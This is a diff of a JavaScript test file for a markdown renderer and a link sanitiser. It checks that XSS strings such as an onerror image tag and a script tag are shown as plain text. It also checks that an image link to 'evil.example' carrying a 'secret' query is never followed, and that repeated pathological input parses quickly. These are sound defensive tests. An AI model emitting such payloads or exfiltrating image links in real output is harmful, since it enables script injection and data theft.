@@ -43,9 +43,12 @@ describe("addresses", () => {
     expect(safeHref(address)).toBeNull();
   });
 
-  test.each(["https://example.com/a?b=c#d", "http://example.com/", "mailto:a@example.com", "tel:+4912345"])("%s is followed", (address) => {
-    expect(safeHref(address)).toBe(address);
-  });
+  test.each(["https://example.com/a?b=c#d", "http://example.com/", "mailto:a@example.com", "tel:+4912345"])(
+    "%s is followed",
+    (address) => {
+      expect(safeHref(address)).toBe(address);
+    },
+  );
 
   test("an address longer than any honest one is not followed", () => {
     expect(safeHref(`https://example.com/${"a".repeat(3_000)}`)).toBeNull();
@@ -68,9 +71,12 @@ describe("addresses", () => {
   });
 });
 
-test.each(["<img src=x onerror=alert(1)>", "<script>alert(1)</script>", "<b>bold</b>", "&lt;b&gt;", "1 < 2 and 3 > 2"])("%s is text", (source) => {
-  expect(leaves(parseMarkdown(source, whole)).join("")).toBe(source);
-});
+test.each(["<img src=x onerror=alert(1)>", "<script>alert(1)</script>", "<b>bold</b>", "&lt;b&gt;", "1 < 2 and 3 > 2"])(
+  "%s is text",
+  (source) => {
+    expect(leaves(parseMarkdown(source, whole)).join("")).toBe(source);
+  },
+);
 
 test("an image is its description and never an address", () => {
   expect(leaves(parseMarkdown("![a cat](https://evil.example/?q=secret)", whole))).toEqual(["a cat"]);
@@ -79,7 +85,11 @@ test("an image is its description and never an address", () => {
 test("a marker of acting that slipped through is not shown, whole or cut", () => {
   expect(leaves(parseMarkdown("Yes! <act happy 0.7 nod/>Of course.", whole)).join("")).toBe("Yes! Of course.");
   for (const cut of ["<", "<a", "<act", "<act happy 0.", "<act happy 0.7 nod/"]) {
-    expect(leaves(parseMarkdown(`Yes! ${cut}`, open)).join("").trim()).toBe("Yes!");
+    expect(
+      leaves(parseMarkdown(`Yes! ${cut}`, open))
+        .join("")
+        .trim(),
+    ).toBe("Yes!");
   }
 });
 
@@ -133,7 +143,8 @@ describe("blocks", () => {
   }
 
   test("paragraphs, headings, lists, quotes, code, tables and rules", () => {
-    const source = "# Title\n\nText\n\n- a\n- b\n\n> said\n\n```js\nlet a = 1;\n```\n\n| a | b |\n| - | - |\n| 1 | 2 |\n\n---\n\nEnd";
+    const source =
+      "# Title\n\nText\n\n- a\n- b\n\n> said\n\n```js\nlet a = 1;\n```\n\n| a | b |\n| - | - |\n| 1 | 2 |\n\n---\n\nEnd";
     expect(kinds(source)).toEqual(["heading", "paragraph", "list", "quote", "code", "table", "rule", "paragraph"]);
   });
 
@@ -151,7 +162,8 @@ describe("blocks", () => {
 test("a hostile answer is parsed in no time", () => {
   const began = performance.now();
 
-  for (const piece of ["*a ", "[", "![", "> ", "`", "_a_", "- ", "[a](", "| ", "<act "]) parseMarkdown(piece.repeat(1_500), whole);
+  for (const piece of ["*a ", "[", "![", "> ", "`", "_a_", "- ", "[a](", "| ", "<act "])
+    parseMarkdown(piece.repeat(1_500), whole);
 
   expect(performance.now() - began).toBeLessThan(2_000);
 });
